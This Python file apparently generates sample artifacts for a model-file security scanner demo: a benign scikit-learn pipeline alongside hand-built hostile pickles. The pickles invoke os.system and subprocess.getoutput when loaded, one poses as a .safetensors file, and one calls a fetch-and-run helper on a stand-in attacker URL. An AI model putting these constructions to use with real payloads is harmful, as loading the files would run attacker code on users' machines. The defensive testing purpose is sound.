"""Sample artifacts for the demo: a real benign model and hostile files built from raw bytes.

The hostile files are built opcode by opcode; nothing here ever loads them. Their payloads are
harmless ``echo`` commands anyway.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path


def _global_call(module: str, name: str, arg: str) -> bytes:
    """Protocol-2 pickle calling ``module.name(arg)`` at load time."""
    body = f"c{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(arg)) + arg.encode() + b"\x85R."
    return b"\x80\x02" + body


def hostile_pickle() -> bytes:
    return _global_call("os", "system", "echo pwned-by-pickle")


def gadget_pickle() -> bytes:
    """A callable that no denylist can know (a third-party helper): only an allowlist catches it."""
    return _global_call("mlhelpers.remote", "fetch_and_run", "https://attacker.invalid/stage2")


def hostile_torch_checkpoint(benign_state: bytes) -> bytes:
    """A PyTorch-style zip checkpoint whose data.pkl runs a command, next to real-looking members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("checkpoint/data.pkl", _global_call("subprocess", "getoutput", "echo pwned-by-torch"))
        z.writestr("checkpoint/version", "3\n")
        z.writestr("checkpoint/data/0", benign_state[:64])
    return buf.getvalue()


def make_project(root: Path) -> dict[str, str]:
    """Write the sample project under ``root``; return file name -> what it is."""
    import joblib
    import numpy as np
    from sklearn.datasets import make_classification
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    root.mkdir(parents=True, exist_ok=True)
    x, y = make_classification(n_samples=300, n_features=8, random_state=7)
    model = make_pipeline(StandardScaler(), RandomForestClassifier(n_estimators=10, random_state=7)).fit(x, y)
    joblib.dump(model, root / "churn-model.joblib")
    joblib.dump(model, root / "churn-model-compressed.joblib", compress=("zlib", 3))
    np.save(root / "embeddings.npy", np.random.default_rng(7).random((64, 16)))
    (root / "README.md").write_text("# churn model\nA sample project made by `bastion demo`.\n")
    release = root / "release"  # what the team ships: the model and its card, signed in the evidence stage
    release.mkdir(exist_ok=True)
    joblib.dump(model, release / "churn-model.joblib")
    (release / "README.md").write_text(
        "---\nlicense: mit\ndatasets:\n- churn-sample\n---\n# churn model\nRandom forest on 8 features.\n"
    )
    (root / "evil.pkl").write_bytes(hostile_pickle())
    (root / "gadget.pkl").write_bytes(gadget_pickle())
    (root / "weights.safetensors").write_bytes(hostile_pickle())  # a pickle wearing a safe name
    (root / "checkpoint.pt").write_bytes(hostile_torch_checkpoint(pickle.dumps(list(range(16)))))
    return {
        "churn-model.joblib": "benign scikit-learn pipeline (joblib)",
        "churn-model-compressed.joblib": "the same, zlib-compressed",
        "embeddings.npy": "benign NumPy array",
        "README.md": "project notes",
        "release/": "the model to ship, with its model card",
        "evil.pkl": "pickle calling os.system",
        "gadget.pkl": "pickle calling an unknown third-party function (on no denylist)",
        "weights.safetensors": "a pickle disguised as safetensors",
        "checkpoint.pt": "PyTorch zip whose data.pkl calls subprocess.getoutput",
    }
